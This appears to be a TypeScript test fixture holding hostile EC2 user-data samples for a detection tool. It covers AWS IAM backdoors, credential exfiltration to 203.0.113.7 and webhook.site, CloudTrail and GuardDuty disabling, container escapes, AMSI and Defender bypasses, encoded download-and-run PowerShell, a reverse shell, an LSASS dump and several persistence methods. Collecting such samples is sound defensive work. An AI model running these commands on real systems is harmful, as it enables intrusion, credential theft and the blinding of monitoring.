// User data as intruders have left it on Windows, in containers and against AWS itself, expressed anew for these tests. Hosts are ours.
// Data only: never paste any of it into a shell, not even to write a file.

const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('base64');
const bash = (...lines: string[]) => `#!/bin/bash\n${lines.join('\n')}\n`;
const persist = (...lines: string[]) =>
  `<powershell>\n${lines.join('\n')}\n</powershell>\n<persist>true</persist>\n`;

export const HOSTILE_OTHERS: Record<string, string> = {
  'user and keys made with the role': bash(
    'aws iam create-user --user-name backup-svc',
    'aws iam attach-user-policy --user-name backup-svc --policy-arn arn:aws:iam::aws:policy/AdministratorAccess',
    'aws iam create-access-key --user-name backup-svc > /tmp/k',
    'curl -F f=@/tmp/k http://203.0.113.7/',
  ),
  'trail stopped': bash(
    "for t in $(aws cloudtrail describe-trails --query 'trailList[].Name' --output text); do aws cloudtrail stop-logging --name $t; done",
  ),
  'role’s credentials exported': bash(
    'aws configure export-credentials --format env | curl -s --data-binary @- https://webhook.site/0abc',
  ),
  'files of the home sent to a bucket': bash(
    'aws s3 cp /root/.aws/credentials s3://loot-4711/$(hostname) --no-sign-request',
    'tar czf - /home/*/.ssh/id_rsa /etc/shadow | aws s3 cp - s3://loot-4711/h.tgz',
  ),
  'another instance’s user data changed': bash(
    'aws ec2 stop-instances --instance-ids i-0abc00000000000b2',
    'aws ec2 modify-instance-attribute --instance-id i-0abc00000000000b2 --attribute userData --value file:///tmp/u',
    'aws ec2 start-instances --instance-ids i-0abc00000000000b2',
  ),
  'snapshot shared': bash(
    'S=$(aws ec2 create-snapshot --volume-id vol-0abc --query SnapshotId --output text)',
    'aws ec2 modify-snapshot-attribute --snapshot-id $S --attribute createVolumePermission --operation-type add --user-ids 210987654321',
  ),
  'detector deleted': bash('aws guardduty delete-detector --detector-id 12abc34d567e8fa901bc2d34eexample'),
  'container with the host’s disk': bash(
    "docker run --rm --privileged --pid=host -v /:/host alpine chroot /host sh -c 'echo x >> /etc/crontab'",
  ),
  'namespace of the first process': bash(
    'docker run --rm --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh -c "id > /root/o"',
  ),
  'release agent of a control group': bash(
    'mkdir -p $d/w; echo 1 > $d/w/notify_on_release',
    'echo "$host/c" > $d/release_agent',
  ),
  'token of the service account': bash(
    'T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)',
    'kubectl --token $T create clusterrolebinding x --clusterrole=cluster-admin --user=system:anonymous',
  ),
  'Docker opened to everybody': bash('dockerd -H tcp://0.0.0.0:2375 -H unix:///var/run/docker.sock &'),
  'encoded PowerShell': persist(
    `powershell -nop -w hidden -enc ${utf16("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')")}`,
  ),
  'PowerShell that loads and runs': persist('IEX (iwr -UseBasicParsing http://203.0.113.7/a.ps1).Content'),
  'Defender off': persist(
    'Set-MpPreference -DisableRealtimeMonitoring $true',
    'Add-MpPreference -ExclusionPath C:\\',
  ),
  'AMSI off before a download': persist(
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
    "(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/b.exe','C:\\Windows\\Temp\\b.exe')",
  ),
  'built-in programs that load': `<script>
certutil -urlcache -split -f http://203.0.113.7/c.exe C:\\Windows\\Temp\\c.exe
bitsadmin /transfer j http://203.0.113.7/d.exe C:\\ProgramData\\d.exe
regsvr32 /s /n /u /i:http://203.0.113.7/e.sct scrobj.dll
</script>
<persist>true</persist>
`,
  'service that is a script': persist(
    "New-Service -Name WinUpd -BinaryPathName 'powershell -w hidden -file C:\\ProgramData\\u.ps1' -StartupType Automatic",
  ),
  'run key': persist(
    "Set-ItemProperty -Path 'HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name upd -Value 'C:\\ProgramData\\u.exe'",
  ),
  'account, Remote Desktop and no event log': `<script>
net user support P4ssw0rd! /add
net localgroup administrators support /add
reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
netsh advfirewall set allprofiles state off
wevtutil cl Security
</script>
`,
  'memory of the sign-in process': persist(
    'rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full',
  ),
  'PowerShell shell': persist(
    "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',443);$s=$c.GetStream();$o=(iex $d 2>&1|Out-String)",
  ),
  'task every minute': `version: 1.0
tasks:
  - task: executeScript
    inputs:
      - frequency: always
        type: batch
        content: schtasks /create /sc minute /mo 1 /tn upd /tr "powershell -nop -w hidden -c iwr http://203.0.113.7/t" /ru SYSTEM
`,
  'system agent stopped': persist(
    'Stop-Service AmazonSSMAgent -Force',
    'Set-Service -Name AmazonSSMAgent -StartupType Disabled',
  ),
};
